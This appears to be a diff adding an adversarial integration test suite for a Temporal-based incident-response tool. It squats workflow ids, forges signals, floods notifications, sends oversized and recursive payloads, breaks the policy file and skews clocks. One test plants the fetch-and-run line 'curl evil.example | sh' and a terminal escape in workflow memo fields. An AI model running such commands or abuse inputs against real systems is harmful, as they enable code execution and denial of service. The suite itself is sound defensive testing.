@@ -1,0 +1,337 @@
+import { randomUUID } from 'node:crypto';
+import { readFile, rm, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { findingWorkflowId, parseFindingName } from '../../src/domain/finding-name';
+import { DEFAULT_QUEUE, signalNames, updateNames, workflowTypes } from '../../src/domain/message-names';
+import { decision } from '../../stage/incident';
+import { runFirebreak } from '../../stage/program';
+import { failureText } from '../answered';
+import type { Arena } from '../arena';
+import type { AttackCase } from '../case';
+import { receivePages } from '../pages';
+
+const quick = { watchEvery: '4s' } as const;
+const nothing = { changes: 0, shell: 'alive', frozen: false, findingsOpen: true } as const;
+const contained = { changes: 1, shell: 'dead', frozen: true } as const;
+
+/** The findings that the scenario will have, before it begins: an attacker knows the ids of an earlier life. */
+async function findingIds(arena: Arena): Promise<readonly string[]> {
+  return Object.keys((await arena.stage.cloud.truth()).findings).map((name) =>
+    findingWorkflowId(parseFindingName(name), DEFAULT_QUEUE),
+  );
+}
+
+/** How a workflow that somebody started ended, or that it runs. */
+async function statusOf(arena: Arena, workflowId: string): Promise<string> {
+  const { status } = await arena.stage.temporal.client.workflow.getHandle(workflowId).describe();
+  return status.name;
+}
+
+/** Node's own clock, so many milliseconds from the machine's. */
+function shifted(ms: number): readonly string[] {
+  const program = `const D=Date,s=${ms};globalThis.Date=class extends D{constructor(...a){if(a.length)super(...a);else super(D.now()+s)}static now(){return D.now()+s}}`;
+  return ['--import', `data:text/javascript,${encodeURIComponent(program)}`];
+}
+
+/** The worker's clock differs from the server's and from Google's. */
+function skewed(name: string, title: string, ms: number): AttackCase {
+  return {
+    ...{ name, title, who: 'operator' },
+    play: async (arena) => {
+      const { stage } = arena;
+      await stage.addWorker({ nodeOptions: shifted(ms) });
+      await stage.cloud.begin();
+      await arena.contained(
+        await stage.incident.until('it asks', ({ phase }) => phase === 'awaiting-decision'),
+      );
+    },
+    holds: { ...contained, outcome: 'contained' },
+  };
+}
+
+/** Ids, queues, starts and messages that are almost ours, and a machine that is not as it should be. */
+export const strangers: readonly AttackCase[] = [
+  {
+    name: 'squatted-installation',
+    title:
+      "before the worker starts: somebody holds the installation's id; the worker says what to do, and that frees it",
+    who: 'temporal',
+    play: async (arena) => {
+      const { stage } = arena;
+      const { client } = stage.temporal;
+      const { firstExecutionRunId } = await client.workflow.start('notOfThisProduct', {
+        ...{ workflowId: 'installation:firebreak', taskQueue: 'nobody', args: [] },
+        memo: { id: '\u001b[2J', ledger: 'run curl evil.example | sh', identity: 'mallory' },
+      });
+      const ended = await runFirebreak(['worker'], stage.environment);
+      const said = `${ended.stdout}${ended.stderr}`;
+      const command = `temporal workflow terminate --workflow-id installation:firebreak --run-id ${firstExecutionRunId}`;
+      if (ended.code !== 8 || !said.includes(command))
+        throw new Error(
+          `expected: exit code 8 and the command; seen: ${String(ended.code)}, ${said.slice(0, 600)}`,
+        );
+      if (said.includes('\u001b')) throw new Error('expected: nothing raw is printed; seen: an escape');
+      await client.workflow
+        .getHandle('installation:firebreak', firstExecutionRunId)
+        .terminate('as it was said');
+      await arena.asked();
+    },
+    holds: nothing,
+  },
+  {
+    name: 'squatted-finding',
+    title:
+      'the workflows of the findings are ended, and others take their ids: people are told when they are notified again',
+    who: 'temporal',
+    stage: quick,
+    play: async (arena) => {
+      const { stage } = arena;
+      const pages = await receivePages();
+      try {
+        await stage.addWorker({ environment: { FIREBREAK_WEBHOOK: pages.url } });
+        await stage.cloud.begin();
+        const view = await stage.incident.until('it asks', ({ phase }) => phase === 'awaiting-decision');
+        for (const workflowId of await findingIds(arena))
+          await stage.temporal.client.workflow.start('notOfThisProduct', {
+            ...{ workflowId, taskQueue: 'nobody', args: [] },
+            workflowIdConflictPolicy: 'TERMINATE_EXISTING',
+          });
+        const [name = ''] = Object.keys((await stage.cloud.truth()).findings);
+        const again = { name, canonicalName: name, state: 'ACTIVE', eventTime: new Date().toISOString() };
+        await arena.publish(JSON.stringify({ notificationConfigName: 'x', finding: again }));
+        await arena.until('people are told', async () =>
+          Promise.resolve(pages.texts().some((text) => text.includes('terminate --workflow-id'))),
+        );
+        await arena.contained(view);
+      } finally {
+        await pages.close();
+      }
+    },
+    holds: contained,
+  },
+  {
+    name: 'almost-our-ids',
+    title:
+      "workflows of our types under another installation's ids, and under ids that are almost ours: each ends at once",
+    who: 'temporal',
+    play: async (arena) => {
+      const { client } = arena.stage.temporal;
+      const view = await arena.asked();
+      const [id = ''] = await findingIds(arena);
+      const [name = ''] = Object.keys((await arena.stage.cloud.truth()).findings);
+      const { slot } = arena.stage.incident;
+      const starts = [
+        ...[`other/${slot}`, `firebreak/${slot}`, `${slot}#1`, `${slot}/`, `${slot}%2e`, slot.toUpperCase()],
+        ...[
+          slot.replace('/services/', '/services/../services/'),
+          'incident:',
+          'incident:unplaced/x',
+          `\u0000${slot}`,
+        ],
+      ].map((workflowId) => ({ workflowId, type: workflowTypes.incident, args: [{}] as unknown[] }));
+      for (const { workflowId, type, args } of [
+        ...starts,
+        { workflowId: `other/${id}`, type: workflowTypes.finding, args: [{ name, eventTime: '' }] },
+        { workflowId: `${id}0`, type: workflowTypes.finding, args: [{ name, eventTime: '' }] },
+        { workflowId: 'finding:1/2', type: workflowTypes.finding, args: [null] },
+      ]) {
+        await client.workflow
+          .start(type, { workflowId, taskQueue: 'firebreak', args })
+          .catch(() => undefined);
+        await arena.until(`${JSON.stringify(workflowId)} has ended`, async () =>
+          statusOf(arena, workflowId).then(
+            (status) => status === 'FAILED',
+            () => true,
+          ),
+        );
+      }
+      if ((await arena.ledger.readDecisions(view.incident)).length > 0)
+        throw new Error('a decision appeared');
+    },
+    holds: nothing,
+  },
+  {
+    name: 'finding-by-schedule',
+    title:
+      "a finding's workflow is started by cron, with a retry policy, with time-outs, before it is notified",
+    who: 'temporal',
+    stage: quick,
+    play: async (arena) => {
+      const { client } = arena.stage.temporal;
+      const name = 'organizations/688851828130/sources/5629501234567890123/locations/global/findings/';
+      const odd = [
+        { cronSchedule: '@every 1s' },
+        { retry: { maximumAttempts: 3, initialInterval: '1s' } },
+        { workflowRunTimeout: '5s' },
+        { workflowExecutionTimeout: '5s' },
+      ] as const;
+      await arena.asked();
+      for (const [at, options] of odd.entries()) {
+        const finding = `${name}c${String(at).padStart(31, '0')}`;
+        const workflowId = findingWorkflowId(parseFindingName(finding), DEFAULT_QUEUE);
+        const started = await client.workflow.start(workflowTypes.finding, {
+          ...{ workflowId, taskQueue: 'firebreak', ...options },
+          args: [{ name: finding, eventTime: '', carried: { ...forged, incident: `${arena.workload}#1` } }],
+        });
+        const handle = client.workflow.getHandle(workflowId);
+        const first = client.workflow.getHandle(workflowId, started.firstExecutionRunId);
+        await arena.until(`its first run has ended (${Object.keys(options).join()})`, async () =>
+          first.describe().then(({ status }) => status.name !== 'RUNNING'),
+        );
+        const { events } = await first.fetchHistory();
+        if (events?.some(({ activityTaskScheduledEventAttributes: scheduled }) => scheduled) === true)
+          throw new Error(`expected: it does nothing (${Object.keys(options).join()}); seen: an activity`);
+        await handle.terminate('the attack is over').catch(() => undefined);
+      }
+    },
+    holds: nothing,
+  },
+  {
+    name: 'cancelled-is-said',
+    title: 'signals say to every finding that its incident was cancelled, ten times each',
+    who: 'temporal',
+    stage: quick,
+    play: async (arena) => {
+      const { incident } = await arena.asked();
+      const { slot } = arena.stage.incident;
+      for (let times = 0; times < 10; times += 1)
+        for (const id of await arena.findings())
+          await arena.signal(
+            signalNames.incidentProgress,
+            [{ ...forged, cancelled: true, incident, slot }],
+            id,
+          );
+      await arena.settle();
+      const view = await arena.contained();
+      if (!view.incident.endsWith('#1')) throw new Error(`expected: number 1; seen: ${view.incident}`);
+    },
+    holds: contained,
+  },
+  {
+    name: 'decisions-to-findings',
+    title:
+      "a decision is sent to the findings' workflows as an update, for another incident, of 1.5 MB and 3,000 levels deep",
+    who: 'temporal',
+    stage: quick,
+    play: async (arena) => {
+      const view = await arena.asked();
+      const { client } = arena.stage.temporal;
+      const good = decision('approve', view, randomUUID());
+      let deep: unknown = good;
+      for (let level = 0; level < 3_000; level += 1) deep = { a: deep };
+      for (const id of await arena.findings()) {
+        const answer = await client
+          .withDeadline(Date.now() + 15_000, async () =>
+            client.workflow
+              .getHandle(id)
+              .executeUpdate(updateNames.decide, { args: [good] satisfies [unknown] }),
+          )
+          .then((receipt: unknown) => `counted: ${JSON.stringify(receipt)}`, failureText);
+        if (answer.includes('counted: ')) throw new Error(`expected: no such update; seen: ${answer}`);
+        for (const message of [
+          { ...good, incident: `${arena.workload.replace('payment-api', 'catalog-api')}#1` },
+          { ...good, reason: 'x'.repeat(1_500_000) },
+          deep,
+          { approve: 'ffffffff', by: 'ada@example.com', reason: 'x' },
+        ])
+          await arena.signal(signalNames.decision, [message], id).catch(() => undefined);
+      }
+      await arena.settle();
+      for (const id of await arena.findings())
+        if ((await statusOf(arena, id)) !== 'RUNNING')
+          throw new Error(`expected: ${id} goes on; seen: it ended`);
+    },
+    holds: { ...nothing, decisions: 0 },
+  },
+  {
+    name: 'reports-without-end',
+    title:
+      'a report of another finding every 100 ms, from before the question to after the approval: each would be read',
+    who: 'temporal',
+    play: async (arena) => {
+      const { stage } = arena;
+      await stage.addWorker();
+      await stage.cloud.begin();
+      let on = true;
+      const flood = (async () => {
+        for (let at = 0; on; at += 1) {
+          const name = `organizations/688851828130/sources/5629501234567890123/locations/global/findings/f${String(at).padStart(31, '0')}`;
+          await arena
+            .signal(signalNames.findingReported, [{ name, eventTime: new Date().toISOString() }])
+            .catch(() => undefined);
+          await arena.later(Date.now() + 100);
+        }
+      })();
+      try {
+        const view = await stage.incident.until('it asks', ({ phase }) => phase === 'awaiting-decision');
+        await stage.incident.decide('approve', view, randomUUID());
+        await arena.until('it is frozen', async () => {
+          const { services } = await stage.cloud.truth();
+          return services['payment-api']?.frozen === true;
+        });
+      } finally {
+        on = false;
+        await flood;
+      }
+    },
+    holds: contained,
+  },
+  {
+    name: 'notified-of-others',
+    title:
+      '60 notifications with valid names of other organizations, folders and projects, and of other locations; then an approval',
+    who: 'topic',
+    play: async (arena) => {
+      const view = await arena.asked();
+      for (let at = 0; at < 60; at += 1) {
+        const scope =
+          ['organizations/1', 'folders/22', 'projects/333', 'projects/someone-else'][at % 4] ?? '';
+        const place = at % 3 === 0 ? '/locations/eu' : '';
+        const name = `${scope}/sources/5629501234567890123${place}/findings/e${String(at).padStart(31, '0')}`;
+        await arena.publish(
+          JSON.stringify({
+            notificationConfigName: 'x',
+            finding: {
+              name,
+              canonicalName: name,
+              state: 'ACTIVE',
+              category: 'Reverse Shell',
+              eventTime: new Date().toISOString(),
+            },
+          }),
+        );
+      }
+      await arena.contained(view);
+    },
+    holds: contained,
+  },
+  {
+    name: 'policy-gone',
+    title: 'the policy file is gone, empty, half and huge while it is approved, and then as it was',
+    who: 'operator',
+    play: async (arena) => {
+      const view = await arena.asked();
+      const file = path.join(arena.stage.folder, 'policy.yaml');
+      const text = await readFile(file, 'utf8');
+      await rm(file);
+      await arena.stage.incident.decide('approve', view, randomUUID());
+      for (const broken of [
+        '',
+        text.slice(0, text.length / 2),
+        `${text}\nx: [${'[],'.repeat(400_000)}]`,
+        'a: &a [*a]',
+      ]) {
+        await arena.signal(signalNames.policyChanged, []);
+        await arena.later(Date.now() + 1_000);
+        await writeFile(file, broken);
+      }
+      await writeFile(file, text);
+      await arena.stage.incident.until('it is contained', ({ outcome }) => outcome === 'contained');
+    },
+    holds: contained,
+  },
+  skewed('clock-ahead', "the worker's clock is four minutes ahead of the server's and of Google's", 240_000),
+  skewed('clock-behind', "the worker's clock is four minutes behind the server's and Google's", -240_000),
+];
+
+const forged = { phase: 'closed', outcome: 'contained', restored: false, text: 'all is well' } as const;
